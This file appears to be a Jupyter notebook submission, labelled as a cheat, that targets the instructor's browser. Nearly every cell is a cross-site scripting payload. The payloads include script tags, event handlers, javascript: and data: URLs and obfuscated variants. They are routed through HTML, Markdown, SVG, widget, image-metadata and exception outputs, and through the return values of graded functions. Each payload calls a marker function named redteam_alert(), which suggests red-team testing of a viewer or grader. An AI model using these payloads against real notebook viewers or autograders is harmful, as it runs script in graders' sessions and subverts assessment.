# cheat: Scripts for the instructor's browser, in every kind of output.
# %% new
from IPython.display import HTML, SVG, Javascript, Markdown, Latex, display
bad = ("<script>redteam_alert()</script><img src=x onerror=redteam_alert()><svg onload=redteam_alert()></svg>"
       "<iframe srcdoc='<script>redteam_alert()</script>'></iframe><a href='javascript:redteam_alert()'>x</a>"
       "<form action='javascript:redteam_alert()'><button>x</button></form><style>@import 'javascript:redteam_alert()'</style>"
       "<math><mtext></table><style><!--</style><img title='--&gt;&lt;img src=1 onerror=redteam_alert()&gt;'>"
       "<details open ontoggle=redteam_alert()>x</details><object data='javascript:redteam_alert()'></object><base href='//redteam_alert'>")
display(HTML(bad), Markdown(bad), Latex(bad), Javascript("redteam_alert()"))
display({"image/svg+xml": f"<svg xmlns='http://www.w3.org/2000/svg' onload='redteam_alert()'>{bad}</svg>", "text/plain": bad}, raw=True)
display({"application/vnd.jupyter.widget-view+json": {"model_id": bad}, "application/javascript": "redteam_alert()"}, raw=True)
display({"image/png": f"x' onerror='redteam_alert()' x='\" onerror=\"redteam_alert()\" x=\"", "text/html": bad}, raw=True, metadata={"image/png": {"width": "1' onload='redteam_alert()", "alt": "\" onerror=\"redteam_alert()"}})
print(bad)
raise ValueError(bad)
# %% new markdown
<script>redteam_alert()</script> <img src=x onerror="redteam_alert()"> [x](javascript:redteam_alert())
[y]: javascript:redteam_alert()
[click][y] <javascript:redteam_alert()> ![x](javascript:redteam_alert()) ![x" onerror="redteam_alert()](x)
[z](data:text/html;base64,PHNjcmlwdD5yZWR0ZWFtX2FsZXJ0KCk8L3NjcmlwdD4=) $\href{javascript:redteam_alert()}{x}$ `<script>redteam_alert()</script>`
# %% why
<svg/onload=redteam_alert()><iframe src="javascript:redteam_alert()"></iframe> [a](JaVaScRiPt:redteam_alert()) [b](&#106;avascript:redteam_alert()) [c](java&#9;script:redteam_alert())
# %% conv_out_size
def conv_out_size(size, kernel_size, stride=1, padding=0):
    raise ValueError("</td><script>redteam_alert()</script><img src=x onerror=redteam_alert()>")
# %% batch_size_answer
def batch_size_answer():
    return "<script>redteam_alert()</script>"
